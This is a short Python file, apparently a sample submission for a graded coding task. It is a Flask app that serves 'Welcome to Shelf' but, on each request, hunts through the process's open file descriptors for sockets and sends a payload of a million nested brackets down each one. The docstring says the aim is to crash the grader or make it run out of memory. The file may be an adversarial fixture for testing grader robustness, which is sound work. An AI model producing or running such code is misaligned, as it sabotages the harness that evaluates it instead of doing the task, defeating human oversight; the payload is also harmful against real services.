"""Writes its own reply to the grader on the worker's socket: a message nested a million lists deep,
hoping the grader crashes (or runs out of memory) reading it."""
import os
import socket
import stat
import struct
import time

from flask import Flask

app = Flask(__name__)
PAYLOAD = b"[" * 1_000_000 + b"]" * 1_000_000


@app.get("/")
def index():
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                socket.socket(fileno=os.dup(fd)).sendall(struct.pack("!I", len(PAYLOAD)) + PAYLOAD)
        except OSError:
            pass
    time.sleep(5)
    return "Welcome to Shelf"
